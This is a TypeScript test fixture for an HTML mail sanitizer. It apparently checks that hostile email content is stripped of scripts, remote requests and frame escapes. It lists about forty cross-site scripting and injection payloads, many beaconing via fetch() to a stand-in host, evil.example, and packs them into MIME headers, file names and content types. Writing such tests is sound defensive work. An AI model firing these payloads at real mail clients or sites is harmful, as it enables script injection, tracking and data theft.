/** Mails that try to run, load or send something: each is one sentence of what an attacker hopes for. */

export const canary = 'https://evil.example/beacon'

/** HTML that must come out without a script, a request or a way to leave the frame. */
export const hostileHtml: Record<string, string> = {
  'a script element': `<script>fetch('${canary}')</script>`,
  'a script with a broken end': `<script>fetch('${canary}')</script foo><p>x`,
  'an event attribute': `<img src=x onerror="fetch('${canary}')">`,
  'an event attribute after a slash': `<img/src="x"/onerror=fetch('${canary}')>`,
  'a javascript link': `<a href="javascript:fetch('${canary}')">x</a>`,
  'a javascript link with white space inside': `<a href="java\tscr\nipt:alert(1)">x</a>`,
  'a javascript link in entities': `<a href="&#106;avascript&colon;alert(1)">x</a>`,
  'a data link': `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  'a vbscript link': `<a href="vbscript:msgbox(1)">x</a>`,
  'a link into the portal': `<a href="/letter/x/close">x</a><a href="//evil.example/x">y</a>`,
  'a remote picture': `<img src="${canary}" alt="logo">`,
  'a remote picture in srcset': `<img srcset="${canary} 2x" src="${canary}">`,
  'a remote picture without a scheme': `<img src="//evil.example/beacon">`,
  'an SVG picture in a data URI': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'/>">`,
  'inline SVG with a script': `<svg><script>fetch('${canary}')</script></svg>`,
  'inline SVG with an animated link': `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
  'MathML that changes the parser': `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>`,
  'a style element that hides a picture': `<style><img src="</style><img src=x onerror=alert(1)//">`,
  'a noscript that hides a picture': `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  'a textarea that hides a picture': `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
  'an xmp that hides a picture': `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  'a comment that hides a picture': `<!--><img src=x onerror=alert(1)>-->`,
  'a CDATA that hides a picture': `<![CDATA[><img src=x onerror=alert(1)>]]>`,
  'a style element that loads': `<style>@import '${canary}'; body{background:url(${canary})}</style>`,
  'a style attribute that loads': `<p style="background:url('${canary}')">x</p>`,
  'a style attribute that loads through an escape': `<p style="background:u\\72l('${canary}')">x</p>`,
  'a style attribute that covers the page': `<p style="position:fixed;inset:0;z-index:9">x</p>`,
  'a style sheet link': `<link rel="stylesheet" href="${canary}">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${canary}">`,
  'a base': `<base href="${canary}"><a href="x">x</a>`,
  'a form': `<form action="${canary}"><input name="code" autofocus><button>Send</button></form>`,
  'a button that submits elsewhere': `<button formaction="${canary}">x</button>`,
  'a frame': `<iframe src="${canary}"></iframe><frameset><frame src="${canary}"></frameset>`,
  'a frame with a document of its own': `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  'an object': `<object data="${canary}"><embed src="${canary}"></object>`,
  'a video with a poster': `<video src="${canary}" poster="${canary}" autoplay><source src="${canary}"></video>`,
  'a background': `<table background="${canary}"><tr><td background="${canary}">x</td></tr></table>`,
  'a ping': `<a href="https://good.example" ping="${canary}">x</a>`,
  'a template': `<template><img src=x onerror=alert(1)></template>`,
  'an element that ends ours': `</main></body></html><script>alert(1)</script>`,
  'an attribute that ends ours': `<a title='"><script>alert(1)</script>'>x</a>`,
  'a name that clobbers': `<img name="body" id="cookie"><form id="x"></form>`,
}

/** A mail with `html` as its body. */
export const htmlMail = (html: string): Buffer => mail(['Content-Type: text/html; charset=utf-8', '', html])

export const mail = (lines: readonly string[]): Buffer =>
  Buffer.from(
    ['From: Dr Anna Weber <a.weber@rheinland-klinik.example>', 'To: Max Maier <max@praxis.example>', 'Subject: x', 'MIME-Version: 1.0']
      .concat(lines)
      .join('\r\n'),
  )

const script = `<script>fetch('${canary}')</script><img src=x onerror=fetch('${canary}')>`
const word = `=?utf-8?B?${Buffer.from(script).toString('base64')}?=`

/** Scripts in five places at once: body, text part, subject, file name, type. */
export const scriptsEverywhere = Buffer.from(
  [
    `From: ${word} <a.weber@rheinland-klinik.example>`,
    `To: ${word} <max@praxis.example>`,
    `Subject: ${word}`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=outer',
    '',
    '--outer',
    'Content-Type: multipart/alternative; boundary=inner',
    '',
    '--inner',
    'Content-Type: text/plain; charset=utf-8',
    '',
    `Plain ${script} https://evil.example/"onmouseover="alert(1) end`,
    '--inner',
    'Content-Type: text/html; charset=utf-8',
    '',
    ...Object.values(hostileHtml).map((html) => `<div>${html}</div>`),
    '<p>The harmless end.</p>',
    '--inner--',
    '--outer',
    `Content-Type: text/"><script>alert(1)</script>; name="${word}"`,
    `Content-Disposition: attachment; filename="${word}"`,
    '',
    'file content',
    '--outer--',
    '',
  ].join('\r\n'),
)
